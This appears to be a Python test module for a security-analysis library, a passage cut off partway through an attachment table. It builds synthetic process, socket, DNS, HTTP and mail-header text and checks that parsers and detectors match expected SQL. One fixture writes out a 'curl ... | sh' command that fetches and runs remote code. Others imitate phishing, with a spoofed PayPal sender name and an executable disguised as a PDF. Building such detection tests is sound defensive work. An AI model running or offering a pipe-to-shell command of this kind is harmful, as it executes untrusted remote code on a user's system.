"""Queries over captured text of hosts, traffic and mail that is made of customer keys, and SQL that knows what each text says.

`said` writes a text with «expressions» in it as SQL that Spark and DuckDB both run.
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import scalars as S
from ..operators import fleet, mail, query
from ..operators.lineage import dealt, shared_folder
from ..sources import files

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
ORACLE_SQL: dict[str, str] = {}

#: Rows that the SQL speaks of: k is the key.
C = "(SELECT c_custkey AS k FROM customer)"


def said(text: str) -> str:
    """The SQL of a text: what stands between « and » is an expression; lines, tabs and quotes go by their codes."""
    out = []
    for i, part in enumerate(re.split("[«»]", text)):
        pieces = [part] if i % 2 else [f"chr({ord(p)})" if p in "\n\t\r'" else f"'{p}'" for p in re.split("([\n\t\r'])", part) if p]
        out += pieces
    return f"concat({', '.join(out)})"


def register(sql: str):
    """Adds a query of customers' keys (column k) and its SQL."""

    def add(f: Callable[[DataFrame], DataFrame]):
        QUERIES[f.__name__] = lambda spark, d: f(dealt(spark.read.parquet(f"{d}/customer.parquet").selectExpr("c_custkey AS k"), "k"))
        ORACLE_SQL[f.__name__] = sql
        return f

    return add


def hosts(k: DataFrame, text: str) -> DataFrame:
    """(host_id, text): a text for each key."""
    return k.selectExpr("k AS host_id", f"{text} AS text")


def joined(df: DataFrame, *columns: str) -> DataFrame:
    """df with arrays of texts as one text."""
    return df.withColumns({c: F.array_join(c, "|") for c in columns})


# -- parsed tables

_BSD = said("  PID  PPID USER %CPU %MEM RSS COMMAND\n«k» 1 root 1.5 0.«k % 10» «k * 3» /usr/bin/app«k» --port «k % 100»\n«k + 1» «k» bob 0.0 2.0 77 sh -c run\nno row at all")
_GNU = said("USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot «k» 1.5 0.«k % 10» 999 «k * 3» ? Ss 10:00 0:01 /usr/bin/app«k» --port «k % 100»\n")


@register(f"""
    SELECT k AS host_id, k AS pid, CASE WHEN k % 2 = 0 THEN 1 END::BIGINT AS ppid, 'root' AS user, 1.5::DOUBLE AS cpu_percent, ((k % 10) / 10)::DOUBLE AS memory_percent, k * 3 * 1024 AS rss_bytes, concat('/usr/bin/app', k, ' --port ', k % 100) AS command, concat('/usr/bin/app', k) AS executable FROM {C}
    UNION ALL SELECT k, k + 1, k, 'bob', 0, 2, 77 * 1024, 'sh -c run', 'sh' FROM {C} WHERE k % 2 = 0""")
def s24_process_table(k):
    return fleet.parse_process_table(hosts(k, f"CASE WHEN k % 2 = 0 THEN {_BSD} ELSE {_GNU} END"))


@register(f"""SELECT k AS host_id, k AS pid, NULL::BIGINT AS ppid, NULL::VARCHAR AS user, NULL::DOUBLE AS cpu_percent, NULL::DOUBLE AS memory_percent, concat(k, '200')::BIGINT * 1024 AS rss_bytes, concat('app', k, '.exe') AS command, concat('app', k, '.exe') AS executable FROM {C}""")
def s24_task_list(k):
    return fleet.parse_tasklist(hosts(k, said('"Image Name","PID","Session Name","Session#","Mem Usage"\n"app«k».exe","«k»","Console","1","«k»,200 K"\n"broken","x"')))


@register(f"""
    SELECT k AS host_id, concat('app', k) AS command, k AS pid, 'root' AS user, 'TCP' AS protocol, 'ESTABLISHED' AS state, concat('10.0.0.', k % 250) AS local_host, (1000 + k % 900)::INT AS local_port, concat('8.8.4.', k % 9) AS remote_host, 443 AS remote_port FROM {C}
    UNION ALL SELECT k, 'sshd', 22, 'root', 'TCP', 'LISTEN', '*', 22, NULL, NULL FROM {C} UNION ALL SELECT k, 'dns', 7, 'bob', 'UDP', NULL, '*', k % 1000 + 1, NULL, NULL FROM {C}
    UNION ALL SELECT k, NULL, NULL, NULL, 'TCP', 'TIME_WAIT', '127.0.0.1', k % 1000 + 2000, '10.1.1.1', 80 FROM {C} UNION ALL SELECT k, NULL, NULL, NULL, 'TCP', 'LISTEN', '::', 8080, '::', NULL FROM {C}""")
def s25_socket_table(k):
    return fleet.parse_socket_table(hosts(k, said(
        "COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME\napp«k» «k» root 12u IPv4 0xabc 0t0 TCP 10.0.0.«k % 250»:«1000 + k % 900»->8.8.4.«k % 9»:443 (ESTABLISHED)\nsshd 22 root 3u IPv6 0x1 0t0 TCP *:22 (LISTEN)\n"
        "dns 7 bob 5u IPv4 0x2 0t0 UDP *:«k % 1000 + 1»\ntcp4 0 0 127.0.0.1.«k % 1000 + 2000» 10.1.1.1.80 TIME_WAIT\ntcp6 0 0 :::8080 :::* LISTEN\nno row at all"
    )))


@register(f"""
    SELECT k AS host_id, 'A' AS type, concat('10.0.0.', k % 250) AS value FROM {C} UNION ALL SELECT k, 'A', concat('10.1.0.', k % 250) FROM {C} UNION ALL SELECT k, 'AAAA', concat('2001:db8::', k % 99) FROM {C}
    UNION ALL SELECT k, 'MX', concat('mx', k, '.example.com.') FROM {C} UNION ALL SELECT k, 'TXT', concat('v=spf1 id', k) FROM {C}""")
def s27_dns_answers(k):
    """A repeated answer counts once; the resolver's own address with its port is none."""
    return fleet.parse_dns_answers(hosts(k, said(
        'Address: 10.2.0.«k % 250»#53\nh«k».example.com has address 10.0.0.«k % 250»\nh«k».example.com has address 10.0.0.«k % 250»\nh has IPv6 address 2001:db8::«k % 99»\nexample.com mail is handled by 10 mx«k».example.com.\n'
        'example.com descriptive text "v=spf1 id«k»"\nexample.org. 300 IN A 10.1.0.«k % 250»\n'
    )))


@register(f"""
    SELECT k AS host_id, concat('web', k) AS name, concat('img:', k % 5) AS image, 'running' AS state, array_to_string(list_sort(['1/udp', concat(k, '/tcp')]), '|') AS ports, concat('net', k % 3) AS networks, concat('/a', k, ':/b') AS mounts, 'always' AS restart FROM {C}
    UNION ALL SELECT k, 'db', NULL, 'exited', NULL, NULL, NULL, NULL FROM {C}""")
def s28_containers(k):
    text = said('[{"Name":"/web«k»","Config":{"Image":"img:«k % 5»"},"State":{"Status":"running"},"HostConfig":{"RestartPolicy":{"Name":"always"}},"NetworkSettings":{"Ports":{"«k»/tcp":[{"HostIp":"0.0.0.0","HostPort":"80"}],"1/udp":null},"Networks":{"net«k % 3»":{"IPAddress":"10.0.0.2"}}},"Mounts":[{"Source":"/a«k»","Destination":"/b"}]},{"Name":"/db","State":{"Status":"exited"}}]')
    return joined(fleet.parse_container_inspect(hosts(k, text)), "ports", "networks", "mounts")


@register(f"""
    SELECT k AS host_id, true AS directory, concat('dir ', k) AS name FROM {C} WHERE k % 2 = 0 UNION ALL SELECT k, false, concat('file', k, '.txt') FROM {C} WHERE k % 2 = 0 UNION ALL SELECT k, false, 'link' FROM {C} WHERE k % 2 = 0""")
def s29_listing(k):
    """Every other text has too few lines that can be read."""
    row = "drwxr-xr-x 2 root root 4096 Jan 1 10:00 dir «k»\n"
    good = said(f"total 8\n{row}-rw-r--r--@ 1 root root «k» Jan 1 2024 file«k».txt\nlrwxr-xr-x 1 r r 1 Jan 1 10:00 link -> /x/«k»\nnoise")
    return fleet.parse_listing(hosts(k, f"CASE WHEN k % 2 = 0 THEN {good} ELSE {said(row + 'noise')} END"))


@register(f"""
    SELECT k AS host_id, 'eth0' AS interface, 'UP' AS state, '02:00:00:00:00:01' AS mac, 'UP|LOWER_UP' AS flags, 'inet' AS family, concat('10.0.0.', k % 250) AS ip, 24 AS prefix FROM {C}
    UNION ALL SELECT k, 'eth0', 'UP', '02:00:00:00:00:01', 'UP|LOWER_UP', 'inet6', concat('fe80::', k), 64 FROM {C} UNION ALL SELECT k, 'tun0', 'DOWN', NULL, NULL, NULL, NULL, NULL FROM {C}""")
def s26_interfaces_json(k):
    text = said('[{"ifname":"eth0","operstate":"UP","address":"02:00:00:00:00:01","flags":["UP","LOWER_UP"],"addr_info":[{"family":"inet","local":"10.0.0.«k % 250»","prefixlen":24},{"family":"inet6","local":"fe80::«k»","prefixlen":64}]},{"ifname":"tun0","operstate":"DOWN","addr_info":[]}]')
    return joined(fleet.interfaces_from_json(hosts(k, text)), "flags")


# -- hosts: choices, reasons, joins

_INTERFACES = "SELECT k // 4 AS host_id, ['lo0', 'eth0', 'tun0', 'en1'][k % 4 + 1] AS interface, CASE WHEN k % 4 = 3 THEN 'DOWN' ELSE 'UP' END AS state, ['127.0.0.1', concat('10.0.0.', k % 250), '8.8.8.8', NULL][k % 4 + 1] AS ip, [-3, 5, 2, 1][k % 4 + 1] AS points FROM " + C + " WHERE k % 5 <> 1"


@register(f"SELECT host_id, interface, state, ip FROM ({_INTERFACES}) QUALIFY row_number() OVER (PARTITION BY host_id ORDER BY points DESC, interface, ip) = 1")
def w08_primary_interface(k):
    rows = k.where("k % 5 <> 1").selectExpr("k div 4 AS host_id", "array('lo0', 'eth0', 'tun0', 'en1')[k % 4] AS interface", "CASE WHEN k % 4 = 3 THEN 'DOWN' ELSE 'UP' END AS state", "array('127.0.0.1', concat('10.0.0.', k % 250), '8.8.8.8', null)[k % 4] AS ip")
    return fleet.primary_interface(rows)


@register(f"SELECT k % 7 AS host_id, concat('kind', k % 2) AS kind, concat('n', k % 11) AS name, min(concat('/etc/', k)) AS path FROM {C} GROUP BY ALL")
def u05_distinct_persistence(k):
    return fleet.distinct_persistence(k.selectExpr("k % 7 AS host_id", "concat('kind', k % 2) AS kind", "concat('n', k % 11) AS name", "concat('/etc/', k) AS path"))


@register(f"SELECT k % 10 AS host_id, count(*) FILTER (k % 3 < 2) AS servers, count(*) FILTER (k % 3 = 1) AS exposed, count(*) FILTER (k % 4 > 0) AS external FROM {C} GROUP BY ALL")
def a20_exposure_counts(k):
    socket = lambda scope: F.array(F.struct(F.lit(scope).alias("scope")))
    return fleet.exposure_counts(k.select((F.col("k") % 10).alias("host_id"), F.when(F.expr("k % 3 = 0"), socket("local")).when(F.expr("k % 3 = 1"), socket("all")).alias("listening"), (F.col("k") % 4).alias("established")))


@register(f"""
    WITH p AS (SELECT k % 10 AS host_id, k AS pid, (k % 7 = 3)::INT + (k % 3 = 1)::INT AS hits, CASE WHEN k % 7 = 3 AND k % 3 = 1 THEN 80 ELSE 0 END + CASE WHEN k % 2 = 0 THEN 25 ELSE 0 END AS more FROM {C})
    SELECT host_id, pid, hits, 20 * hits + more AS score FROM p WHERE hits > 0 QUALIFY rank() OVER (PARTITION BY host_id ORDER BY hits DESC) = 1""")
def w07_match_processes(k):
    rows = k.selectExpr("k % 10 AS host_id", "k AS pid", "'python app' AS label", "concat('python app', k % 7, ' serve', k % 3) AS command", "CASE WHEN k % 2 = 0 THEN array(80) END AS listening")
    return fleet.match_processes(rows, ["App3", "serve1"]).select("host_id", "pid", "hits", "score")


@register(f"""
    WITH p AS (SELECT k % 10 AS host_id, k AS pid, (k % 10 = 4)::INT + (k % 10 < 5 AND k % 3 = 1)::INT AS hits, k % 3 = 1 AND k % 10 < 5 AS worker, k % 10 = 4 AS servers, k % 4 = 0 AND k % 10 <> 9 AS serves FROM {C}),
    h AS (SELECT host_id, max(hits) AS best, bool_or(serves) AS served FROM p GROUP BY 1)
    SELECT host_id, pid, hits, concat(CASE WHEN servers THEN 'server ' ELSE '' END, CASE WHEN worker THEN 'workers' ELSE '' END) AS answered,
        CASE WHEN hits = 2 THEN 60 WHEN hits = 1 THEN 20 WHEN host_id = 8 THEN 15 WHEN host_id = 7 THEN 8 ELSE 0 END + CASE WHEN serves AND (hits > 0 OR host_id IN (7, 8)) THEN 25 ELSE 0 END AS score,
        CASE WHEN best = 2 THEN 'all' WHEN best = 1 THEN 'part' WHEN served THEN 'listening' ELSE 'any' END AS tier
    FROM p JOIN h USING (host_id) WHERE CASE WHEN best > 0 THEN hits = best WHEN served THEN serves ELSE true END""")
def w07_answering_processes(k):
    label = "CASE WHEN k % 10 < 5 AND k % 3 = 1 THEN 'Worker-one' ELSE 'sleeper' END"
    command = "CASE WHEN k % 10 = 8 THEN '/opt/server workers' WHEN k % 10 = 7 THEN 'workers of a server' ELSE 'idle' END"
    rows = k.selectExpr("k % 10 AS host_id", "k AS pid", f"{label} AS label", "CASE WHEN k % 10 = 4 THEN 'servers' END AS role", f"{command} AS command", "CASE WHEN k % 4 = 0 AND k % 10 <> 9 THEN array(80) END AS listening")
    return fleet.answering_processes(rows, "Server workers").select("host_id", "pid", "hits", F.array_join("answered", " ").alias("answered"), "score", "tier")


@register(f"""
    WITH n AS (SELECT k % 5 AS capture, concat('10.0.', k // 250, '.', k % 250) AS ip, concat('n', k) AS name FROM {C} WHERE k % 3 = 0), p AS (SELECT k AS packet, k % 5 AS capture, concat('10.0.', k // 250, '.', k % 250) AS src, concat('10.0.0.', k % 60) AS dst FROM {C})
    SELECT packet, p.capture, src, dst, a.name AS src_name, b.name AS dst_name FROM p LEFT JOIN n a ON a.capture = p.capture AND a.ip = src LEFT JOIN n b ON b.capture = p.capture AND b.ip = dst""")
def j01_enrich_names(k):
    """Names hold only in the capture that they were learned in."""
    ip = "concat('10.0.', k div 250, '.', k % 250)"
    packets = k.selectExpr("k AS packet", "k % 5 AS capture", f"{ip} AS src", "concat('10.0.0.', k % 60) AS dst")
    binds = k.where("k % 3 = 0").selectExpr("k % 5 AS capture", f"{ip} AS ip", "concat('n', k) AS name", "k AS packet")
    return fleet.enrich_names(packets, fleet.names_per_ip(binds))


_PLACE = "CASE k % 5 WHEN 0 THEN concat('/tmp/x', k % 30) WHEN 1 THEN concat('/usr/bin/app', k % 20) WHEN 2 THEN '/home/u/Downloads/f' WHEN 3 THEN '/home/u/.hid/b' END"
_RISK = "CASE k % 5 WHEN 0 THEN 'temporary-folder' WHEN 2 THEN 'download-or-cache' WHEN 3 THEN 'hidden-home-folder' END"
_SIGNED = "CASE k % 5 WHEN 1 THEN k % 20 < 10 WHEN 2 THEN false END"


def _annotated(k: DataFrame) -> DataFrame:
    at = k.selectExpr("k % 10 AS host_id", "k AS pid", f"{_PLACE} AS executable")
    signatures = k.where("k % 5 IN (1, 2)").selectExpr("k % 10 AS host_id", f"{_PLACE} AS executable", f"{_SIGNED} AS signed").distinct()
    return fleet.annotate_sockets(k.selectExpr("k % 10 AS host_id", "k AS pid", "concat('8.8.8.', k % 9) AS remote_host"), at.where("executable is not null"), signatures)


@register(f"SELECT k % 10 AS host_id, k AS pid, concat('8.8.8.', k % 9) AS remote_host, {_PLACE} AS executable, {_SIGNED} AS signed, {_RISK} AS location_risk FROM {C}")
def j06_annotate_sockets(k):
    return _annotated(k)


@register(f"""
    WITH s AS (SELECT k % 10 AS host_id, {_PLACE} AS executable, list_filter([concat('runs from a ', {_RISK}), CASE WHEN NOT {_SIGNED} THEN 'not signed' END, CASE WHEN k % 5 = 1 AND k % 20 IN (1, 11) THEN 'starts by itself' END], lambda x: x IS NOT NULL AND x <> 'runs from a ') AS why FROM {C})
    SELECT host_id, executable, CASE WHEN len(why) > 1 THEN 'high' ELSE 'investigate' END AS severity, array_to_string(why, '|') AS why FROM s WHERE len(why) > 0 UNION ALL SELECT k, concat('/var/tmp/p', k), 'investigate', 'temporary-folder' FROM {C} WHERE k < 10""")
def a11_endpoint_findings(k):
    persistence = k.where("k % 20 IN (1, 11)").selectExpr("k % 10 AS host_id", f"{_PLACE} AS path").unionByName(k.where("k < 10").selectExpr("k AS host_id", "concat('/var/tmp/p', k) AS path"))
    return joined(fleet.endpoint_findings(_annotated(k), persistence), "why")


@register(f"""
    WITH s AS (SELECT k, CASE WHEN k % 50 = 7 THEN 'edge.target.example' ELSE concat('10.0.0.', k % 50) END AS remote_host FROM {C})
    SELECT k AS pid, remote_host, CASE WHEN k % 50 < 3 THEN 'address' WHEN k % 50 < 5 THEN 'reverse-name' WHEN k % 50 = 7 THEN 'text' ELSE 'certificate' END AS matched_by FROM s WHERE k % 50 <= 7""")
def j15_attribute_host(k):
    ip = "concat('10.0.0.', k % 50) AS ip"
    socks = k.selectExpr("k AS pid", "CASE WHEN k % 50 = 7 THEN 'edge.target.example' ELSE concat('10.0.0.', k % 50) END AS remote_host")
    addresses = k.selectExpr("CASE WHEN k % 50 < 3 THEN 'target.example' ELSE 'other.example' END AS host", ip)
    reverse = k.where("k % 50 BETWEEN 2 AND 4 OR k % 50 > 8").selectExpr(ip, "CASE WHEN k % 50 < 5 THEN 'x.target.example' ELSE 'x.target.test' END AS name")
    certificates = k.where("k % 50 BETWEEN 4 AND 6").selectExpr(ip, "array('no.example', 'target.example') AS names")
    return fleet.attribute_host(socks, addresses, reverse, certificates, "target.example")


@register(f"SELECT k, k % 4 IN (0, 2) AS covered FROM {C}")
def j16_certificate_covers(k):
    """A star stands for one label, and not for none."""
    names = F.expr("array(concat('*.corp', k % 10, '.example'), concat('API.x', k, '.example'))")
    host = F.expr("CASE k % 4 WHEN 0 THEN concat('a.Corp', k % 10, '.example') WHEN 1 THEN concat('a.b.corp', k % 10, '.example') WHEN 2 THEN concat('api.x', k, '.example') ELSE concat('corp', k % 10, '.example') END")
    return k.select("k", fleet.certificate_covers(names, host).alias("covered"))


@register(f"SELECT k AS pid, state, (k % 30)::INT AS local_port, (k % 7)::INT AS remote_port, 'TCP' AS protocol FROM (SELECT k, CASE k % 3 WHEN 0 THEN 'ESTABLISHED' WHEN 1 THEN 'LISTEN' END AS state FROM {C}) WHERE (state IS NULL OR state = 'LISTEN') AND (k % 30 = 5 OR k % 7 = 5) AND k % 2 = 0")
def p18_filter_connections(k):
    """Without a state a socket counts as not established."""
    rows = k.selectExpr("k AS pid", "CASE k % 3 WHEN 0 THEN 'ESTABLISHED' WHEN 1 THEN 'LISTEN' END AS state", "cast(k % 30 as int) AS local_port", "cast(k % 7 as int) AS remote_port", "CASE WHEN k % 2 = 0 THEN 'TCP' ELSE 'UDP' END AS protocol")
    return fleet.filter_connections(rows, "NOT_ESTABLISHED", 5, "tcp")


# -- values

_HOST = "CASE k % 8 WHEN 0 THEN '0.0.0.0' WHEN 1 THEN '*' WHEN 2 THEN concat('127.0.', k % 250, '.1') WHEN 3 THEN 'localhost' WHEN 4 THEN concat('172.', 16 + k % 16, '.0.1') WHEN 5 THEN concat('172.', 32 + k % 99, '.0.1') WHEN 6 THEN '100.64.0.1' ELSE '224.0.0.9' END"


@register(f"SELECT k, CASE k % 8 WHEN 0 THEN 'all' WHEN 1 THEN 'all' WHEN 2 THEN 'local' WHEN 3 THEN 'local' WHEN 4 THEN 'private' ELSE 'public' END AS scope, k % 8 IN (0, 2, 4) AS private, k % 8 = 5 AS public FROM {C}")
def f_host_scope(k):
    host = F.expr(_HOST)
    return k.select("k", S.host_scope(host).alias("scope"), S.is_private(host).alias("private"), S.is_public_address(host).alias("public"))


@register(f"SELECT k, CASE WHEN k % 4 < 3 THEN datediff('day', DATE '2020-01-01' + (k % 900)::INT, DATE '2024-01-01') END AS days FROM {C}")
def f_days_since(k):
    day = "date_add(date '2020-01-01', cast(k % 900 as int))"
    told = F.expr(f"CASE k % 4 WHEN 0 THEN date_format({day}, 'yyyy-MM-dd') WHEN 1 THEN date_format({day}, 'yyyyMMdd') WHEN 2 THEN date_format({day}, 'dd-MMM-yyyy') ELSE 'soon' END")
    return k.select("k", S.days_since(told, F.lit("2024-01-01").cast("date")).cast("long").alias("days"))


@register(f"SELECT k, concat('red', k, ' x', chr(9), 'y') AS cleaned, concat('red', k, ' x y') AS cell, CASE WHEN k % 3 = 0 THEN 'project' ELSE concat('my_app_', k) END AS project, sha256(concat('{{\"a\":', k, ',\"b\":\"v', k % 5, '\"}}')) AS fingerprint FROM {C}")
def f_cleaned_texts(k):
    colours = F.expr("concat(chr(27), '[31mred', k, chr(27), '[0m', chr(7), ' x', chr(9), 'y')")
    rows = k.withColumn("b", F.expr("concat('v', k % 5)")).withColumn("a", F.col("k"))
    return rows.select("k", S.clean_text(colours).alias("cleaned"), S.cell_text(S.clean_text(colours)).alias("cell"), S.safe_project_name(F.expr("CASE WHEN k % 3 = 0 THEN '../..' ELSE concat('.my app/', k, '..') END")).alias("project"), S.record_fingerprint(["b", "a"]).alias("fingerprint"))


@register(f"SELECT k, {_RISK} AS risk, k % 4 = 1 AS fetches FROM {C}")
def f_location_risk(k):
    line = F.expr("CASE k % 4 WHEN 1 THEN concat('curl -s https://h', k, '.example/i | sh') ELSE concat('/usr/bin/python serve ', k) END")
    return k.select("k", fleet.location_risk(F.expr(_PLACE)).alias("risk"), fleet.fetches_code(line).alias("fetches"))


# -- messages of HTTP


@register(f"""
    SELECT k AS id, CASE WHEN k % 3 = 0 THEN 'GET' ELSE 'POST' END AS method, concat(200 + k % 5, '') AS status, CASE WHEN k % 3 = 0 THEN '' ELSE concat('q=', k) END AS query, 'sid|theme' AS cookies, concat('a=', k, '; Path=/, b=2') AS set_cookie, 'Bearer' AS "authorization",
    concat('/next/', k) AS location, CASE WHEN k % 3 = 1 THEN concat('user=u ', k, '&x=1') END AS form FROM {C}""")
def x_http_extras(k):
    """Every other request is in base64; forms are read where the type says so."""
    request = f"CASE WHEN k % 3 = 0 THEN {said('GET /a')} ELSE {said('POST /a?q=«k»')} END"
    kind = "CASE WHEN k % 3 = 1 THEN 'application/x-www-form-urlencoded' ELSE 'text/plain' END"
    whole = said(f"«{request}» HTTP/1.1\r\nHost: h\r\nCookie: sid=«k»; theme=x\r\nauthorization: Bearer abc\r\nContent-Type: «{kind}»\r\n\r\nuser=u+«k»&__VIEWSTATE=zz&x=1")
    answer = said("HTTP/1.1 «200 + k % 5» OK\r\nSet-Cookie: a=«k»; Path=/\r\nSet-Cookie: b=2\r\nLocation: /next/«k»\r\n\r\nbody")
    rows = k.selectExpr("k AS id", f"CASE WHEN k % 2 = 0 THEN base64(cast({whole} as binary)) ELSE {whole} END AS request", f"{answer} AS response")
    form = F.array_join(F.transform("form", lambda f: F.concat(f["name"], F.lit("="), f["value"])), "&")
    return joined(files.http_extras(rows), "cookies").withColumn("form", form).drop("request", "response")


# -- texts and paths


@register(f"SELECT concat('/srv/m', k % 7, '/Main', k, '.py') AS path, 4 AS depth, false AS entrypoint FROM {C} WHERE k % 3 = 0 UNION ALL SELECT concat('/srv/', k, '/main.go'), 4, true FROM {C} WHERE k % 3 = 1")
def p22_find_files(k):
    paths = k.selectExpr("CASE k % 3 WHEN 0 THEN concat('/srv/m', k % 7, '/Main', k, '.py') WHEN 1 THEN concat('/srv/', k, '/main.go') ELSE concat('/srv/man', k, '.c') END AS path")
    return query.find_files(paths, "m?in*.")


@register(f"""SELECT ['Python', 'Go', 'JavaScript'][k % 4 + 1] AS language, count(*) AS files, count(*) FILTER (k % 5 = 0) AS entrypoints FROM {C} WHERE k % 4 < 3 GROUP BY ALL""")
def a17_languages(k):
    return query.languages(k.selectExpr("concat('/srv/', k, CASE WHEN k % 5 = 0 THEN '/app.' ELSE concat('/x', k, '.') END, array('py', 'go', 'JSX', 'bin')[k % 4]) AS path"))


_CODE = said("class Box«k»:\n    def open(self):\n        return close(«k»)\n\n    async def close(self):\n        def open():\n            pass\n\ndef open(x):\n    return reopen(x)\n")


@register(f"""SELECT k, r.line::INT AS line, r.text AS text, r.role AS role, r.symbol AS symbol FROM (SELECT k, unnest([
    {{'line': 2, 'text': '    def open(self):', 'role': 'definition', 'symbol': concat('Box', k, '.open')}}, {{'line': 6, 'text': '        def open():', 'role': 'definition', 'symbol': concat('Box', k, '.close.open')}},
    {{'line': 9, 'text': 'def open(x):', 'role': 'definition', 'symbol': 'open'}}]) AS r FROM {C})""")
def p23_find_symbol(k):
    return query.find_symbol(k.selectExpr("k", f"{_CODE} AS text"), "open", "k")


@register(f"SELECT 'id' AS key, 'number' AS type, count(*) AS n FROM {C} UNION ALL SELECT 'v', ['string', 'object', 'array', 'null', 'boolean'][k % 5 + 1], count(*) FROM {C} GROUP BY ALL UNION ALL SELECT concat('x', k % 3), 'number', count(*) FROM {C} WHERE k % 2 = 0 GROUP BY ALL")
def p26_varied_schema(k):
    value = """array('"s 1"', '{"a":1}', '[1,2]', 'null', 'true')[k % 5]"""
    return query.json_schema(k.selectExpr(f"""concat('{{"id":', k, ',"v":', {value}, CASE WHEN k % 2 = 0 THEN concat(',"x', k % 3, '":-1.5e3') ELSE '' END, '}}') AS j"""), "j")


@register(f"SELECT ['json', 'jsonl', 'table', 'text', 'text'][k % 5 + 1] AS shape, count(*) AS n FROM {C} GROUP BY ALL")
def s13_varied_shapes(k):
    text = f"""CASE k % 5 WHEN 0 THEN {said('[{"a":«k»}]')} WHEN 1 THEN {said('{"a":«k»}' + chr(10) + '{"a":2}' + chr(10))} WHEN 2 THEN {said('a,b' + chr(10) + '«k»,2' + chr(10))} WHEN 3 THEN {said('a,b' + chr(10) + '«k»')} ELSE {said('{"a":«k»')} END"""
    return k.select(query.classify_text(F.expr(text)).alias("shape")).groupBy("shape").agg(F.count("*").alias("n"))


_PAGE = said("<html><head><title>T«k»</title><style>p {x}</style></head><body><nav>menu «k»</nav><h1>Head  «k»</h1><script>if (a < b) {}</script><p>One &amp; «k»<br>two</p><ul><li>a«k»</li><li>b</li><li>b</li></ul><!-- no --><footer>f</footer></body></html>")


@register(f"SELECT k, {said('Head «k»' + chr(10) + 'One & «k»' + chr(10) + 'two' + chr(10) + '- a«k»' + chr(10) + '- b')} AS text, concat('T', k) AS title FROM {C}")
def s23_planted_html(k):
    page: Column = F.expr(_PAGE)
    return k.select("k", files.html_to_text(page).alias("text"), files.html_title(page).alias("title"))


# -- mail


def _mails(k: DataFrame, *headers: tuple[str, str]) -> DataFrame:
    """Messages with headers whose values are SQL of k; a header whose value is null is left out."""
    pairs = F.filter(F.array(*[F.struct(F.lit(name).alias("name"), F.expr(value).alias("value")) for name, value in headers]), lambda h: h["value"].isNotNull())
    return k.select(F.col("k"), F.col("k").alias("msg_sha256"), pairs.alias("headers"))


@register(f"""
    SELECT k AS msg_sha256, 1 AS hop, concat('[8.8.', k % 9, '.1]') AS from_host, concat('relay', k, '.example') AS by_host, 'SMTP' AS protocol, NULL AS id, NULL AS for_address, TIMESTAMP '2024-01-01 09:59:00' AS received, concat('8.8.', k % 9, '.1') AS ip, true AS public, NULL AS relay FROM {C}
    UNION ALL SELECT k, 2, concat('relay', k, '.example'), 'mx.google.com', 'ESMTPS', concat('q', k), 'bob@x.example', TIMESTAMP '2024-01-01 08:00:00', NULL, false, 'Google' FROM {C} UNION ALL SELECT k, 3, 'mx.google.com', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL FROM {C}""")
def w03_received_hops(k):
    rows = _mails(
        k, ("Received", said("from relay«k».example by mx.google.com with ESMTPS id q«k»\n for <bob@x.example>; Mon, 1 Jan 2024 10:00:00 +0200 (EET)")),
        ("Subject", "'x'"), ("received", said("from [8.8.«k % 9».1] by relay«k».example with SMTP; Mon, 1 Jan 2024 09:59:00 +0000")),
    )
    return mail.received_hops(rows).withColumn("received", F.col("received").cast("timestamp_ntz"))


_RESULTS = "CASE k % 4 WHEN 0 THEN ['pass', 'pass'] WHEN 1 THEN ['pass', 'fail'] WHEN 2 THEN ['none', 'pass'] ELSE ['softfail', 'none'] END"


@register(f"""
    WITH r AS (SELECT k, {_RESULTS} AS r FROM {C}) SELECT k AS msg_sha256, 'spf' AS method, CASE WHEN list_contains(r, 'fail') THEN 'fail' ELSE r[1] END AS verdict, concat('d', k, '.example') AS domain FROM r
    UNION ALL SELECT k, 'dkim', 'neutral', 'x.example' FROM r UNION ALL SELECT k, 'arc', 'pass', '' FROM r WHERE k % 3 = 0""")
def a15_auth_verdict(k):
    """Results of two headers; one that fails decides."""
    at = lambda i: f"element_at({_RESULTS.replace('[', 'array(').replace(']', ')')}, {i})"
    rows = _mails(k, ("Authentication-Results", said(f"mx; spf=«{at(1)}» smtp.mailfrom=a@d«k».example;\n dkim=neutral header.d=X.example")), ("authentication-results", said(f"mx2; SPF=«{at(2)}» smtp.mailfrom=a@e.example«CASE WHEN k % 3 = 0 THEN '; arc=pass' ELSE '' END»")))
    return mail.auth_verdict(mail.auth_results(rows))


@register(f"""
    SELECT k AS msg_sha256, concat('Bill ', k) AS subject, from_domain, sent, array_to_string(list_filter([CASE WHEN k % 2 = 0 THEN 'Reply-To domain differs' END, CASE WHEN k % 3 = 0 THEN 'Return-Path domain differs' END, CASE WHEN k % 5 = 0 THEN 'display name imitates another sender' END, CASE WHEN k % 7 = 0 THEN 'date cannot be read' END], lambda x: x IS NOT NULL), '|') AS anomalies
    FROM (SELECT k, concat('corp', k, '.example') AS from_domain, CASE WHEN k % 7 > 0 THEN TIMESTAMP '2024-02-01 10:00:00' END AS sent FROM {C})""")
def m_header_anomalies(k):
    own = "concat('corp', k, '.example')"
    rows = _mails(
        k, ("Subject", said("Bill «k»")), ("From", said(f"\"«CASE WHEN k % 5 = 0 THEN 'PayPal Service' ELSE 'Bob' END»\" <bob@«{own}»>")), ("Reply-To", f"CASE k % 2 WHEN 0 THEN 'x@evil.test' ELSE concat('y@mail.', {own}) END"),
        ("Return-Path", "CASE WHEN k % 3 = 0 THEN '<z@bounce.test>' END"), ("Date", "CASE WHEN k % 7 = 0 THEN 'yesterday' ELSE 'Thu, 1 Feb 2024 11:00:00 +0100' END"),
    )
    return joined(mail.mail_headers(rows).drop("sender").withColumn("sent", F.col("sent").cast("timestamp_ntz")), "anomalies")


#: Attachments: name, first bytes in hex, their type, executable, mismatch, double extension, macro, archive.
_FILES = [
    ("bill.pdf", "4D5A9000", "'application/x-dosexec'", True, True, False, False, False), ("bill.pdf.exe", "4D5A9000", "'application/x-dosexec'", True, False, True, False, False), ("note.pdf", "255044462D", "'application/pdf'", False, False, False, False, False),
    ("pack.zip", "504B0304", "'application/zip'", False, False, False, False, True), ("text.docx", "504B0304", "'application/zip'", False, False, False, False, False), ("sheet.xlsm", "504B0304", "'application/zip'", False, False, False, True, True),
